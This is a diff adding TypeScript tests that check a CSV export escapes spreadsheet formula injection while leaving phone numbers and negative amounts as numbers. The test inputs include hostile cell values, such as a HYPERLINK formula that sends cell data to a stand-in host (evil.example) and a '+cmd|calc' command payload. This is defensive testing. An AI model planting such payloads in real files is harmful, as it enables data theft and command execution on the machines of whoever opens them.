@@ -18,6 +18,13 @@ afterEach(async () => {
   world = undefined;
 });
 
+/** One CSV record (RFC 4180) into its cells, quotes undone. */
+function parseCsvRow(row: string): string[] {
+  return [...row.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g)].map(
+    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
+  );
+}
+
 test('csvField quotes what needs quoting', () => {
   expect(csvField('plain')).toBe('plain');
   expect(csvField('a,b')).toBe('"a,b"');
@@ -25,6 +32,25 @@ test('csvField quotes what needs quoting', () => {
   expect(csvField('two\nlines')).toBe('"two\nlines"');
   expect(csvField(12.5)).toBe('12.5');
   expect(csvField(undefined)).toBe('');
+});
+
+test('csvField defuses cells a spreadsheet would run as a formula (OWASP), and leaves numbers alone', () => {
+  expect(csvField('=HYPERLINK("https://evil.example/?x="&A1,"Click")')).toBe(
+    `"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")"`,
+  );
+  expect(csvField('@SUM(1)')).toBe("'@SUM(1)");
+  expect(csvField('\t=1')).toBe("'\t=1");
+  expect(csvField('\r=1')).toBe(`"'\r=1"`);
+  expect(csvField('-2+3')).toBe("'-2+3");
+  expect(csvField('+cmd|calc')).toBe("'+cmd|calc");
+  expect(csvField('=1,2')).toBe(`"'=1,2"`);
+  // A number, signed or not, cannot be a formula: E.164 numbers and negative amounts stay
+  // as they are, so a spreadsheet still reads them as numbers.
+  expect(csvField('+919876543210')).toBe('+919876543210');
+  expect(csvField('-12.5')).toBe('-12.5');
+  expect(csvField(-12.5)).toBe('-12.5');
+  expect(csvField('919876543210')).toBe('919876543210');
+  expect(csvField('a=1')).toBe('a=1');
 });
 
 test('NDJSON export reads back into exactly the stored calls; CSV has a row per call', async () => {
@@ -80,4 +106,30 @@ test('an export onto a full disk or into a folder says so in one line naming the
   );
   expect(intoFolder.exitCode).toBe(1);
   expect(intoFolder.stderr).toBe(`error: cannot write ${folder}: it is a folder\n`);
+});
+
+test('a CSV export of hostile names and notes opens in a spreadsheet as text', async () => {
+  const database = temporaryDatabase();
+  const store = CallStore.open(database);
+  const party = (number: string) => ({ kind: 'phone' as const, raw: number, phoneNumber: number });
+  store.upsert([
+    makeCall({
+      id: 'hostile',
+      from: party('+919876543210'),
+      to: { kind: 'phone', raw: '=1+1' },
+      agent: { id: '@agent', name: '=HYPERLINK("https://evil.example","x")' },
+      notes: [{ text: '-2+3' }, { text: 'fine' }],
+    }),
+  ]);
+  store.close();
+  const run = await cli(['--db', database, 'export', '--format', 'csv'], {});
+  expect(run.exitCode).toBe(0);
+  const [header, row] = run.stdout.trimEnd().split('\r\n') as [string, string];
+  const cells = parseCsvRow(row);
+  const cell = (name: string) => cells[header.split(',').indexOf(name)];
+  expect(cell('from')).toBe('+919876543210');
+  expect(cell('to')).toBe("'=1+1");
+  expect(cell('agent_id')).toBe("'@agent");
+  expect(cell('notes')).toBe("'-2+3 | fine");
+  expect(cell('agent_name')).toBe(`'=HYPERLINK("https://evil.example","x")`);
 });
